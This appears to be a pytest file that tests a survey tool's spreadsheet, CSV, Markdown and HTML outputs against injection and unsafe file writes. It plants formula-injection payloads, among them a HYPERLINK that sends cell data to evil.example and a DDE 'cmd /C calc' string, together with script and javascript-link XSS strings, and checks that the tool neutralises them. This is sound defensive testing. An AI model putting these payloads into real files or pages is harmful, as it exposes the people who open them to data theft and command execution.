"""Hostile questionnaires against the questionnaire outputs: printable form, codebook, template, XLSForm.

Every attack is planted in a questionnaire file generated here. The assertions are made on the bytes
written (the CSV text, the XML inside each workbook, the Markdown and the HTML), the questionnaire's
sha256 is the same before and after, and the command line answers with one line and exit 2, never a
traceback.
"""

from __future__ import annotations

import csv
import dataclasses
import errno
import hashlib
import html
import io
import os
import re
import threading
import time
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
import yaml

import servqual as sq
from servqual._safeio import FORMULA_TRIGGERS
from servqual._text import Text
from servqual.cli import main
from servqual.exceptions import OutputFileError, ServqualError
from servqual.survey.forms import (
    write_codebook,
    write_questionnaire,
    write_template,
    write_xlsform,
    xlsform,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tleading tab",
    "\rleading CR",
]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(document.cookie))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "a | b || c",
    "# heading\n- list\n1. numbered",
]
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def sha256(path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def starts_like_formula(text: str) -> bool:
    return text[:1] in ("\t", "\r") or text.lstrip()[:1] in FORMULA_TRIGGERS


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def assert_clear(exc: BaseException) -> None:
    """A refusal the command line turns into one line and exit 2."""
    assert isinstance(exc, ServqualError) and isinstance(exc, ValueError)
    msg = str(exc)
    assert msg and "\n" not in msg and "Traceback" not in msg


def bounded(fn, seconds: float = 20.0):
    box = {}

    def run():
        try:
            box["value"] = fn()
        except BaseException as e:  # noqa: BLE001 - handed back to the test
            box["error"] = e

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(seconds)
    assert not t.is_alive(), f"did not return within {seconds} s"
    if "error" in box:
        raise box["error"]
    return box["value"]


def _text(zh, en) -> dict:
    return {"zh": zh, "en": en}


def hostile_spec() -> dict:
    """A questionnaire whose every text is an attack (formulas, markup), with a bipolar -3..3 scale."""
    formulas = [{"id": f"f{i}", "text": _text(a, FORMULAS[(i + 1) % len(FORMULAS)])} for i, a in enumerate(FORMULAS)]
    markup = [{"id": f"m{i}", "text": _text(a, MARKUP[(i + 1) % len(MARKUP)])} for i, a in enumerate(MARKUP)]
    return {
        "id": "hostile",
        "version": "-1+1",
        "title": _text(FORMULAS[0], MARKUP[0] + " title"),
        "instructions": _text(MARKUP[6] + "\n" + MARKUP[0], MARKUP[2] + "\n- list"),
        "citation": "@SUM(1+1) " + MARKUP[1] + " & " + MARKUP[2],
        "languages": ["zh", "en"],
        "scales": {
            "bipolar": {"min": -3, "max": 3, "labels": {-3: _text("-3 非常不同意", "=1+1"), 3: _text("+3 非常同意", "@x")}},
            "agree": {"min": 1, "max": 5, "labels": {1: _text(FORMULAS[2], MARKUP[1]), 5: _text(MARKUP[0], FORMULAS[3])}},
        },
        "scale": "bipolar",
        "missing_codes": [-9],
        "respondent_id": "resp_id",
        "pii": ["phone"],
        "segments": ["region"],
        "blocks": [{"id": "p", "role": "perception", "column": "{id}_p", "text": _text(MARKUP[0], MARKUP[2])}],
        "dimensions": [
            {"id": "d1", "name": _text(FORMULAS[2], "| a | b |"), "items": formulas},
            {"id": "d2", "name": _text(MARKUP[1], MARKUP[2]), "items": markup},
        ],
        "outcomes": [{"id": "sat", "kind": "satisfaction", "scale": "agree", "text": _text("=1+1 满意", "- dash")}],
        "attention_checks": [{"id": "chk", "expected": -2, "text": _text("@请选 -2", "=choose -2")}],
        "kpis": [{"id": "k1", "name": _text("=kpi()", "@kpi"), "description": _text("-描述", "+desc " + MARKUP[0]),
                  "unit": "h", "direction": "lower_is_better", "target": "<= 24"}],
    }


def columns_spec() -> dict:
    """A questionnaire whose data columns (``column:``) are attacks."""
    items = [{"id": f"a{i}", "column": a, "text": _text(f"题{i}", f"item {i}")} for i, a in enumerate(FORMULAS + MARKUP[:2])]
    return {"id": "cols", "scale": {"min": 1, "max": 5}, "missing_codes": [-9],
            "dimensions": [{"id": "d", "items": items}]}


def write_yaml(path: Path, spec: dict) -> Path:
    path.write_text(yaml.safe_dump(spec, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture
def hostile(tmp_path):
    q = write_yaml(tmp_path / "hostile.yaml", hostile_spec())
    before = sha256(q)
    yield q, sq.load_instrument(q)
    assert sha256(q) == before


@pytest.fixture
def hostile_columns(tmp_path):
    q = write_yaml(tmp_path / "cols.yaml", columns_spec())
    before = sha256(q)
    yield q, sq.load_instrument(q)
    assert sha256(q) == before


def xlsx_cells(path) -> tuple:
    """Every text and number stored in a workbook (read from its XML), and the formulas."""
    texts, numbers, formulas = [], [], []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not name.endswith(".xml"):
                continue
            raw = zf.read(name).decode("utf-8")
            assert not CONTROL.search(raw), name
            root = ET.fromstring(raw)  # well-formed XML
            if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml":
                for el in root.iter():
                    tag = el.tag.split("}")[-1]
                    if tag == "t":
                        texts.append(el.text or "")
                    elif tag == "v":
                        numbers.append(el.text)
                    elif tag == "f":
                        formulas.append(el.text)
    return texts, numbers, formulas


def csv_fields(path) -> list:
    raw = Path(path).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# --------------------------------------------------------------------------------------------------
# 1. Formula injection: codebook, template, XLSForm
# --------------------------------------------------------------------------------------------------
def test_codebook_csv_neutralises_every_text_cell_and_keeps_numbers(hostile, tmp_path):
    _, inst = hostile
    p = write_codebook(inst, tmp_path / "codebook.csv")
    rows = csv_fields(p)
    assert len(rows) == 1 + len(inst.column_specs())  # a CR inside a field did not split a record
    assert len({len(r) for r in rows}) == 1
    fields = [f for r in rows for f in r]
    assert not [f for f in fields if starts_like_formula(f) and not is_number(f)]  # -3, -9 are numbers
    for attack in FORMULAS:
        assert "'" + attack in fields
    by = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert (by["f0_p"]["scale_min"], by["f0_p"]["missing_codes"], by["chk"]["expected"]) == ("-3", "-9", "-2")


def test_codebook_xlsx_neutralises_every_text_cell_in_the_xml(hostile, tmp_path):
    _, inst = hostile
    texts, numbers, formulas = xlsx_cells(write_codebook(inst, tmp_path / "codebook.xlsx"))
    assert formulas == []
    assert texts and not [t for t in texts if starts_like_formula(t)]
    assert {"'" + a for a in FORMULAS} <= set(texts)
    assert {"-3", "-9", "-2"} <= set(numbers)  # negative numbers are numbers, not neutralised text


def test_template_column_names_are_neutralised(hostile_columns, tmp_path):
    _, inst = hostile_columns
    header = csv_fields(write_template(inst, tmp_path / "t.csv"))[0]
    assert len(header) == len(inst.column_specs())
    assert not [h for h in header if starts_like_formula(h)]
    assert {"'" + a for a in FORMULAS} <= set(header)
    texts, _, formulas = xlsx_cells(write_template(inst, tmp_path / "t.xlsx"))
    assert formulas == []
    assert not [t for t in texts if starts_like_formula(t)]
    assert {"'" + a for a in FORMULAS} <= set(texts)


def test_template_xlsx_of_hostile_texts_has_no_live_cell(hostile, tmp_path):
    _, inst = hostile
    texts, numbers, formulas = xlsx_cells(write_template(inst, tmp_path / "t.xlsx"))
    assert formulas == [] and not [t for t in texts if starts_like_formula(t)]
    from openpyxl import load_workbook

    ws = load_workbook(tmp_path / "t.xlsx")["responses"]
    prompts = [dv.prompt for dv in ws.data_validations.dataValidation]
    assert any(FORMULAS[0][:20] in (p or "") for p in prompts)  # an input message is text, not a cell


def test_xlsform_labels_are_neutralised_and_the_form_still_converts(hostile, tmp_path):
    pytest.importorskip("pyxform")
    from pyxform.xls2xform import convert

    _, inst = hostile
    p = write_xlsform(inst, tmp_path / "form.xlsx")
    texts, numbers, formulas = xlsx_cells(p)
    assert formulas == [] and not [t for t in texts if starts_like_formula(t)]
    assert {"'" + a for a in FORMULAS} <= set(texts)
    assert {"-3", "-2", "-1"} <= set(numbers)  # the choices of the bipolar scale
    xform = convert(xlsform=str(p), validate=False).xform
    root = ET.fromstring(xform)
    ns = {"x": "http://www.w3.org/2002/xforms"}
    values = [el.text for el in root.iter("{http://www.w3.org/2002/xforms}name")]
    assert values[:7] == ["-3", "-2", "-1", "0", "1", "2", "3"]  # choice values unchanged
    labels = {"".join(v.itertext()) for v in root.iterfind(".//x:itext/x:translation/x:text/x:value", ns)}
    assert "'" + FORMULAS[0] in labels and "'-3 非常不同意" in labels and MARKUP[0] in labels
    names = {el.tag.split("}")[-1] for el in root.iter()}
    assert {c for c in inst.column_specs()["column"] if c != "resp_id"} <= names


def test_xlsform_refuses_a_kano_code_that_a_spreadsheet_reads_as_a_formula(tmp_path, capsys):
    spec = {"id": "kano_bad", "scale": {"min": 1, "max": 5},
            "kano": {"answers": {"like": "=1+1", "must_be": "must-be", "neutral": "neutral", "live_with": "live-with",
                                 "dislike": "dislike"},
                     "features": [{"id": "k1", "text": "feature", "functional": "k1_f", "dysfunctional": "k1_d"}]}}
    q = write_yaml(tmp_path / "kano.yaml", spec)
    with pytest.raises(ValueError, match=r"'=1\+1'"):
        xlsform(sq.load_instrument(q))
    assert main(["survey", "xlsform", str(q), "-o", str(tmp_path / "k.xlsx")]) == 2
    err = capsys.readouterr().err
    assert "=1+1" in err and "Traceback" not in err and not (tmp_path / "k.xlsx").exists()


# --------------------------------------------------------------------------------------------------
# 2. Markdown / HTML injection: printable form and codebook
# --------------------------------------------------------------------------------------------------
def _table_rows_keep_their_cells(md: str) -> None:
    table = []
    for line in md.splitlines() + [""]:
        if line.startswith("|"):
            table.append(len(re.findall(r"(?<!\\)\|", line)))
        elif table:
            assert len(set(table)) == 1, table
            table = []


def _assert_inert_markdown(md: str) -> None:
    low = md.lower()
    assert "<script" not in low and "<img" not in low and "<javascript" not in low
    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", md)  # no unescaped link bracket pair
    _table_rows_keep_their_cells(md)
    markdown_it = pytest.importorskip("markdown_it")
    out = markdown_it.MarkdownIt("commonmark").enable("table").render(md).lower()
    assert "<script" not in out and "<img" not in out and "href" not in out and "<a " not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out  # shown as the same characters


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_printable_markdown_form_is_inert(hostile, tmp_path, lang):
    _, inst = hostile
    md = write_questionnaire(inst, tmp_path / "form.md", lang=lang, show_columns=True).read_text(encoding="utf-8")
    _assert_inert_markdown(md)
    assert "<h1" not in _render(md.split("\n", 2)[2])  # the instructions' "# heading" is not a heading


def _render(md: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").enable("table").render(md)


def test_codebook_markdown_is_inert(hostile, hostile_columns, tmp_path):
    for _, inst in (hostile, hostile_columns):
        md = write_codebook(inst, tmp_path / f"{inst.id}.md").read_text(encoding="utf-8")
        _assert_inert_markdown(md) if inst.id == "hostile" else _table_rows_keep_their_cells(md)
        assert "<script" not in md.lower() and "<img" not in md.lower()


def test_printable_markdown_shows_hostile_column_names_as_text(hostile_columns, tmp_path):
    _, inst = hostile_columns
    md = write_questionnaire(inst, tmp_path / "form.md", lang="en", show_columns=True).read_text(encoding="utf-8")
    assert "<script" not in md.lower() and "<img" not in md.lower()
    _table_rows_keep_their_cells(md)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_printable_html_form_is_inert(hostile, hostile_columns, tmp_path, lang):
    for _, inst in (hostile, hostile_columns):
        out = write_questionnaire(inst, tmp_path / f"{inst.id}.html", lang=lang, show_columns=True).read_text(encoding="utf-8")
        body = out.split("</style>", 1)[1].lower()
        assert "<script" not in body and "<img" not in body and "href" not in body and "<b " not in body
        assert not CONTROL.search(out)
    assert html.escape(MARKUP[0], quote=False) in out or "&lt;img" in out


# --------------------------------------------------------------------------------------------------
# Control characters: removed, never a traceback
# --------------------------------------------------------------------------------------------------
def _with_control_characters(inst):
    d = inst.dimensions[0]
    items = tuple(dataclasses.replace(it, text=Text("响\x07铃\x00" + it.text.zh, "bell\x07 nul\x00 esc\x1b " + it.text.en))
                  for it in d.items)
    dims = (dataclasses.replace(d, items=items),) + tuple(inst.dimensions[1:])
    return dataclasses.replace(inst, dimensions=dims, title=Text("标题\x0b", "title\x0c"))


def test_control_characters_in_texts_are_removed_from_every_output(tmp_path):
    inst = _with_control_characters(sq.load_instrument("after_sales_service_quality"))
    outs = [write_codebook(inst, tmp_path / "cb.xlsx"), write_codebook(inst, tmp_path / "cb.csv"),
            write_codebook(inst, tmp_path / "cb.md"), write_template(inst, tmp_path / "t.xlsx"),
            write_xlsform(inst, tmp_path / "x.xlsx"), write_questionnaire(inst, tmp_path / "f.md", lang="en"),
            write_questionnaire(inst, tmp_path / "f.html", lang="zh")]
    for p in outs:
        if p.suffix == ".xlsx":
            texts, _, _ = xlsx_cells(p)  # parses as XML, no control character in any part
            assert any(t.startswith("bell nul esc ") for t in texts)
        else:
            text = p.read_text(encoding="utf-8-sig")
            assert not CONTROL.search(text), p.name
            assert "bell nul esc " in text or "响铃" in text, p.name


def test_control_characters_in_a_questionnaire_file_give_one_line_not_a_traceback(tmp_path, capsys):
    spec = hostile_spec()
    spec["dimensions"][0]["items"][0]["text"] = _text("响\x07铃", "bell\x07 nul\x00")
    q = write_yaml(tmp_path / "ctl.yaml", spec)
    before = sha256(q)
    for cmd, name in (("codebook", "cb.xlsx"), ("xlsform", "x.xlsx"), ("template", "t.xlsx")):
        rc = main(["survey", cmd, str(q), "-o", str(tmp_path / name)])
        captured = capsys.readouterr()
        assert "Traceback" not in captured.err + captured.out
        assert rc in (0, 2)
        if rc == 2:  # the questionnaire is refused: one message naming the file
            assert "ctl.yaml" in captured.err and not (tmp_path / name).exists()
        else:
            xlsx_cells(tmp_path / name)
    assert sha256(q) == before


def test_long_hostile_texts_are_written_in_bounded_time(tmp_path):
    spec = columns_spec()
    spec["dimensions"][0]["items"][0]["text"] = _text("[" * 50_000 + "<" * 50_000, "=" + "|*_`" * 25_000)
    inst = sq.load_instrument(write_yaml(tmp_path / "long.yaml", spec))
    start = time.perf_counter()
    for suffix in ("csv", "md", "xlsx"):
        bounded(lambda s=suffix: write_codebook(inst, tmp_path / f"cb.{s}"))
    bounded(lambda: write_questionnaire(inst, tmp_path / "f.md", lang="en"))
    assert time.perf_counter() - start < 30
    texts, _, _ = xlsx_cells(tmp_path / "cb.xlsx")
    assert max(len(t) for t in texts) <= 32767 and not [t for t in texts if starts_like_formula(t)]


# --------------------------------------------------------------------------------------------------
# 6. Atomic writes; never through a link, never onto an input
# --------------------------------------------------------------------------------------------------
WRITERS = [
    ("codebook.csv", lambda inst, p, **kw: write_codebook(inst, p, **kw)),
    ("codebook.md", lambda inst, p, **kw: write_codebook(inst, p, **kw)),
    ("codebook.xlsx", lambda inst, p, **kw: write_codebook(inst, p, **kw)),
    ("template.csv", lambda inst, p, **kw: write_template(inst, p, **kw)),
    ("template.xlsx", lambda inst, p, **kw: write_template(inst, p, **kw)),
    ("form.xlsx", lambda inst, p, **kw: write_xlsform(inst, p, **kw)),
    ("form.md", lambda inst, p, **kw: write_questionnaire(inst, p, **kw)),
    ("form.html", lambda inst, p, **kw: write_questionnaire(inst, p, **kw)),
]


@pytest.mark.parametrize("name, write", WRITERS, ids=[w[0] for w in WRITERS])
def test_a_link_onto_the_questionnaire_is_refused(hostile, tmp_path, name, write):
    q, inst = hostile
    out = tmp_path / "out"
    out.mkdir()
    (out / name).symlink_to(q)
    with pytest.raises(OutputFileError) as e:
        write(inst, out / name)
    assert_clear(e.value)
    assert str(q) in str(e.value) and str(out / name) in str(e.value)
    assert (out / name).is_symlink()
    dangling = out / ("dangling" + Path(name).suffix)
    dangling.symlink_to(tmp_path / "nowhere")
    with pytest.raises(OutputFileError, match="symbolic link"):
        write(inst, dangling)
    assert not (tmp_path / "nowhere").exists()
    assert sorted(p.name for p in out.iterdir()) == sorted([name, dangling.name])  # no temporary left


@pytest.mark.parametrize("name, write", WRITERS, ids=[w[0] for w in WRITERS])
def test_an_input_of_the_run_is_never_overwritten(hostile, tmp_path, name, write):
    q, inst = hostile
    data = tmp_path / name  # a data file that happens to bear the output's name
    data.write_bytes(b"resp_id,f0_p\n1,2\n")
    before = sha256(data)
    with pytest.raises(OutputFileError, match="input file") as e:
        write(inst, data, inputs=[data])
    assert_clear(e.value)
    hard = tmp_path / ("hard" + Path(name).suffix)
    os.link(q, hard)  # the questionnaire under another name: refused without being declared
    with pytest.raises(OutputFileError, match="input file"):
        write(inst, hard)
    assert sha256(data) == before


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
@pytest.mark.parametrize("name, write", WRITERS, ids=[w[0] for w in WRITERS])
def test_a_failed_write_leaves_the_old_file_and_no_temporary(hostile, tmp_path, monkeypatch, name, write, failure):
    _, inst = hostile
    out = tmp_path / "out"
    out.mkdir()
    old = out / name
    old.write_bytes(b"the previous version")

    def fail(fd):
        raise failure

    monkeypatch.setattr(os, "fsync", fail)
    with pytest.raises(type(failure)):
        write(inst, old)
    monkeypatch.undo()
    assert old.read_bytes() == b"the previous version"
    assert [p.name for p in out.iterdir()] == [name]
    write(inst, old)  # and a complete write replaces it
    assert old.read_bytes() != b"the previous version"


@pytest.mark.parametrize("name, write", WRITERS, ids=[w[0] for w in WRITERS])
def test_bad_output_places_are_one_clear_error(hostile, tmp_path, name, write):
    _, inst = hostile
    folder = tmp_path / name
    folder.mkdir()
    afile = tmp_path / "afile"
    afile.write_text("x")
    for bad in (folder, "", afile / name, tmp_path / (Path(name).stem + ".pdf")):
        with pytest.raises(OutputFileError) as e:
            write(inst, bad)
        assert_clear(e.value)
    assert afile.read_text() == "x"
    p = write(inst, tmp_path / "new" / "sub" / name)  # missing folders are created
    assert p.is_file() and [x.name for x in p.parent.iterdir()] == [name]


def test_command_line_refuses_a_link_onto_the_questionnaire(hostile, tmp_path, capsys):
    q, _ = hostile
    link = tmp_path / "codebook.csv"
    link.symlink_to(q)
    assert main(["survey", "codebook", str(q), "-o", str(link)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and str(q) in err and len(err.strip().splitlines()) == 1
    assert main(["survey", "render", str(q), "-o", str(tmp_path / "form.md"), "--lang", "en"]) == 0
    _assert_inert_markdown((tmp_path / "form.md").read_text(encoding="utf-8"))
